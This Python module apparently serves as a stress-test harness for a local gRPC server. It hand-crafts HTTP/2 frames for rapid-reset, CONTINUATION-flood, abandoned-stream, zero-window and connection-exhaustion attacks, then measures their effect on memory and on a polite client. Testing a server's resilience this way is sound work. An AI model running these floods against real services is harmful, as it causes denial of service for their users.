"""HTTP/2 written by hand: attacks on a gRPC server that no client library would send, and a polite
client that measures their effect on others. Uses the standard library alone."""

import contextlib
import os
import socket
import struct
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9)
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEALTH = "/grpc.health.v1.Health/Check"
GENERATE = "/fox.v1.Inference/Generate"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(
        ">I", stream) + payload


def literal(text):
    data = text.encode()
    if len(data) < 127:
        return bytes((len(data),)) + data
    length, out = len(data) - 127, [127]
    while length >= 128:
        out.append(length % 128 + 128)
        length //= 128
    return bytes(out + [length]) + data


def header(name, value):
    """A header field without indexing, so that the peer's table stays empty."""
    return b"\x00" + literal(name) + literal(value)


def request_headers(method=HEALTH, extra=()):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "test"),
              ("te", "trailers"), ("content-type", "application/grpc"), *extra]
    return b"".join(header(name, value) for name, value in fields)


def message(body=b""):
    return b"\0" + struct.pack(">I", len(body)) + body


class Connection:
    """A connection that has sent its preface. Frames of the peer are read by `read` alone."""

    def __init__(self, address, timeout=20.0, source=None, settings=b""):
        source_address = (source, 0) if source else None
        self.socket = socket.create_connection(address, timeout, source_address)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buffer = b""
        self.stream = -1
        self.answers = True  # acknowledges SETTINGS and PING
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))

    def __enter__(self):
        return self

    def __exit__(self, *unused):
        with contextlib.suppress(OSError):
            self.socket.shutdown(socket.SHUT_RDWR)  # a thread that reads would keep it open
        self.socket.close()

    def next_stream(self):
        self.stream += 2
        return self.stream

    def read(self):
        """Returns (kind, flags, stream, payload); raises OSError at the end of the connection."""
        while len(self.buffer) < 9 or len(self.buffer) < 9 + self.length():
            data = self.socket.recv(1 << 16)
            if not data:
                raise ConnectionError("closed")
            self.buffer += data
        end = 9 + self.length()
        kind, flags = self.buffer[3], self.buffer[4]
        stream = struct.unpack(">I", self.buffer[5:9])[0]
        payload, self.buffer = self.buffer[9:end], self.buffer[end:]
        if not self.answers:
            pass
        elif kind == SETTINGS and not flags & ACK:
            self.socket.sendall(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.socket.sendall(frame(PING, ACK, 0, payload))
        return kind, flags, stream, payload

    def length(self):
        return struct.unpack(">I", b"\0" + self.buffer[:3])[0]

    def send_call(self, method=HEALTH, body=b""):
        """Sends a whole request and returns its stream."""
        stream = self.next_stream()
        self.socket.sendall(frame(HEADERS, END_HEADERS, stream, request_headers(method)) +
                            frame(DATA, END_STREAM, stream, message(body)))
        return stream

    def call(self, method=HEALTH, body=b""):
        """One unary call. Returns the answer's message, None if there was none."""
        stream, answer = self.send_call(method, body), None
        while True:
            kind, flags, of, payload = self.read()
            if kind == GOAWAY:
                raise ConnectionError("goaway")
            if of != stream:
                continue
            if kind == DATA and payload:
                answer = payload[5:]
                self.socket.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload))))
            if kind == RST_STREAM or flags & END_STREAM:
                return answer


def is_serving(address, timeout=20.0):
    """True if a health check on a new connection answers SERVING within the timeout."""
    try:
        with Connection(address, timeout) as connection:
            return connection.call() == b"\x08\x01"
    except OSError:
        return False


class Victim(threading.Thread):
    """A polite client that connected before, from an address of its own: health checks, one after
    another, on one connection."""

    ADDRESS = "127.0.0.2"  # the attackers have 127.0.0.1

    def __init__(self, address):
        super().__init__(daemon=True)
        self.address, self.seconds, self.errors, self.ended = address, [], 0, False
        self.served = threading.Event()
        self.start()
        self.served.wait(20)

    def run(self):
        connection = None
        while not self.ended:
            start = time.monotonic()
            try:
                connection = connection or Connection(self.address, source=self.ADDRESS)
                assert connection.call() == b"\x08\x01"
            except (OSError, AssertionError):
                self.errors += 1
                if connection is not None:
                    connection.socket.close()
                connection = None
            self.seconds.append(time.monotonic() - start)
            self.served.set()
            time.sleep(0.005)
        if connection is not None:
            connection.socket.close()

    def end(self):
        self.ended = True
        self.join()
        ordered = sorted(self.seconds)
        return {"calls": len(ordered), "errors": self.errors,
                "p99_ms": round(1000 * ordered[int(len(ordered) * 0.99) - 1], 1),
                "max_ms": round(1000 * ordered[-1], 1)}


# ---- attacks: each takes an address and a size, and returns its observations ---------------------


def send_all(connection, data):
    """Sends while another thread reads the peer's frames. Returns the bytes sent before the end,
    and the peer's reason."""
    ends = []
    connection.answers = False  # two threads would write over each other

    def drain():
        try:
            while True:
                kind, _, _, payload = connection.read()
                if kind == GOAWAY:
                    ends.append("GOAWAY " + payload[8:].decode(errors="replace")[:60])
        except OSError:
            ends.append("closed")

    reader = threading.Thread(target=drain, daemon=True)
    reader.start()
    sent = 0
    try:
        for chunk in data:
            connection.socket.sendall(chunk)
            sent += len(chunk)
    except OSError:
        pass
    try:
        connection.socket.shutdown(socket.SHUT_WR)
    except OSError:
        pass
    reader.join(10)
    return sent, ends[0] if ends else "open"


def rapid_reset(address, count):
    """Opens streams and resets each at once."""
    pairs = [frame(HEADERS, END_HEADERS, stream, request_headers()) +
             frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
             for stream in range(1, 2 * count, 2)]
    with Connection(address) as connection:
        return send_all(connection, (b"".join(pairs[i:i + 500]) for i in range(0, count, 500)))


def continuation_flood(address, mebibytes):
    """One stream whose headers never end, each frame below the limit of metadata."""
    fields = b"".join(header("x-%d" % i, "y" * 900) for i in range(7))
    chunk = b"".join(frame(CONTINUATION, 0, 1, fields) for _ in range(16))
    first = frame(HEADERS, 0, 1, request_headers())
    with Connection(address) as connection:
        return send_all(connection, [first, *[chunk] * ((mebibytes << 20) // len(chunk))])


def many_streams(address, count):
    """Streams with nearly 8 KiB of headers that are opened and left."""
    fields = request_headers(GENERATE, [("x", "y" * 7000)])
    with Connection(address) as connection:
        return send_all(connection, (frame(HEADERS, END_HEADERS, stream, fields)
                                     for stream in range(1, 2 * count, 2)))


def unread_checks(address, count, whole=True):
    """Health checks on eight connections, held for three seconds. Either the windows are shut for
    their answers, or their messages never come. Returns the number of checks."""
    sent = 0

    def read_away(connection):
        with contextlib.suppress(OSError):
            while True:
                connection.read()

    with contextlib.ExitStack() as stack:
        for _ in range(8):
            connection = stack.enter_context(
                Connection(address, settings=struct.pack(">HI", 4, 0)))
            connection.answers = False  # two threads would write over each other
            threading.Thread(target=read_away, args=(connection,), daemon=True).start()
            for _ in range(count // 8):
                if whole:
                    connection.send_call()
                else:
                    connection.socket.sendall(frame(
                        HEADERS, END_HEADERS, connection.next_stream(), request_headers()))
                sent += 1
        time.sleep(3)
    return sent


def unsent_checks(address, count):
    return unread_checks(address, count, whole=False)


def half_handshakes(address, count):
    """Silent connections. Returns how many the server closed within 30 s, and the seconds until
    the last one."""
    start = time.monotonic()
    sockets, closed = [], 0
    for _ in range(count):
        try:
            sockets.append(socket.create_connection(address, 5))
        except OSError:
            closed += 1
    for one in sockets:
        with one:
            one.settimeout(max(0.01, 30 - (time.monotonic() - start)))
            try:
                while one.recv(4096):
                    pass
                closed += 1
            except TimeoutError:
                pass
            except OSError:
                closed += 1
    return closed, "closed after %.1f s" % (time.monotonic() - start)


def connections(address, count):
    """Holds connections open and closes them; returns their number and how a new client fares."""
    held = []
    for _ in range(count):
        try:
            held.append(socket.create_connection(address, 5))
            held[-1].sendall(PREFACE + frame(SETTINGS, 0, 0))
        except OSError:
            pass
    for one in held:
        one.close()
    start = time.monotonic()
    while not is_serving(address, 1) and time.monotonic() - start < 150:
        time.sleep(0.01)
    return len(held), "new client after %.2f s" % (time.monotonic() - start)


def resident_mib(pid):
    with open("/proc/%d/statm" % pid) as file:
        return int(file.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20


def measure(address, pid, attack, size):
    """Runs one attack beside a polite client. Returns a dict of its effects on the process and the
    client."""
    before = peak = resident_mib(pid)
    victim, done = Victim(address), threading.Event()

    def watch():
        nonlocal peak
        while not done.wait(0.01):
            peak = max(peak, resident_mib(pid))

    watcher = threading.Thread(target=watch)
    watcher.start()
    start = time.monotonic()
    try:
        result = attack(address, size)
    finally:
        seconds = time.monotonic() - start
        time.sleep(0.5)
        done.set()
        watcher.join()
        polite = victim.end()
    return {"result": result, "seconds": round(seconds, 2), "before_mib": round(before),
            "peak_mib": round(peak - before), "kept_mib": round(resident_mib(pid) - before),
            **polite}
